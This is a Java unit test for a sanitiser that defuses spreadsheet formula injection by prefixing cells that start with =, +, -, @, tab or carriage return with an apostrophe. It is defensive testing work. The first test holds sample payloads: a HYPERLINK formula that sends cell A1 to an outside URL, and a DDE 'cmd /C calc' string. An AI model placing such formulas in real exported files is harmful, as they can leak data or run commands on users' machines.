package io.tandem.web.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

class SpreadsheetTextTest {

    @Test
    void aCellASpreadsheetWouldRunIsPrefixedWithAnApostrophe() {
        assertEquals("'=HYPERLINK(\"http://example.org/?\"&A1,\"Open\")",
                SpreadsheetText.inert("=HYPERLINK(\"http://example.org/?\"&A1,\"Open\")"));
        assertEquals("'+1+cmd|' /C calc'!A0", SpreadsheetText.inert("+1+cmd|' /C calc'!A0"));
        assertEquals("'-2+3", SpreadsheetText.inert("-2+3"));
        assertEquals("'@SUM(A1:A9)", SpreadsheetText.inert("@SUM(A1:A9)"));
        assertEquals("'\t=1", SpreadsheetText.inert("\t=1"));
        assertEquals("'\r=1", SpreadsheetText.inert("\r=1"));
    }

    @Test
    void otherTextIsLeftAsItIs() {
        assertEquals("", SpreadsheetText.inert(""));
        assertEquals("Calls answered within 20 s", SpreadsheetText.inert("Calls answered within 20 s"));
        assertEquals("1 = 1", SpreadsheetText.inert("1 = 1"));
        assertEquals("−2.5 %", SpreadsheetText.inert("−2.5 %"), "the minus sign U+2212 is no formula");
        assertEquals(" =1", SpreadsheetText.inert(" =1"));
    }
}
